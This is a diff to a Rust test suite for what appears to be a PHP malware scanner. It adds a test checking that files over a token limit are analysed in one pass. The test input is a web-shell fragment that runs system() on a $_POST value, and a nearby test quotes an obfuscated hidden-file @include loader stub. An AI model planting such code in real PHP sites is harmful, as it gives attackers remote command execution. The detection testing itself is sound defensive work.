@@ -706,6 +706,22 @@ fn a_file_the_shapes_already_found_critical_costs_one_pass() {
 }
 
 #[test]
+fn a_file_of_more_than_forty_thousand_tokens_costs_one_pass() {
+    // The worst files' bar: a second pass over a database manager of 300 KB cost a fifth of
+    // its time. Such a file is read once; what only a later assignment would reach is not.
+    let late = "while (1) { system($d); $d = $_POST['c']; }";
+    let count = |padding: usize| {
+        let src = format!("<?php {late} {}", "$x = 1; ".repeat(padding));
+        let t = tokenize_for_test(src.as_bytes(), 1 << 22);
+        PASSES.with(|c| c.set(0));
+        let found = analyze(&t, Script { command_line: false, settled: false });
+        (t.len() > ONE_PASS_TOKENS, PASSES.with(|c| c.get()), found.iter().map(|s| s.why).collect::<Vec<_>>())
+    };
+    assert_eq!(count(9_000), (false, 2, vec![Why::ShellFromInput]));
+    assert_eq!(count(10_500), (true, 1, vec![]));
+}
+
+#[test]
 fn a_hidden_file_of_another_type_included_by_its_path_is_loaded_data() {
     // The loader put in front of a site's files (hex escapes in the path, `@` to stay quiet).
     let stub = "<?php\n/*bfe2e*/\n@include (\"/home/u/public_html/wp-\\x69ncludes/blocks/missing/.d093297f.ot\\x69\");\n/*bfe2e*/\n";
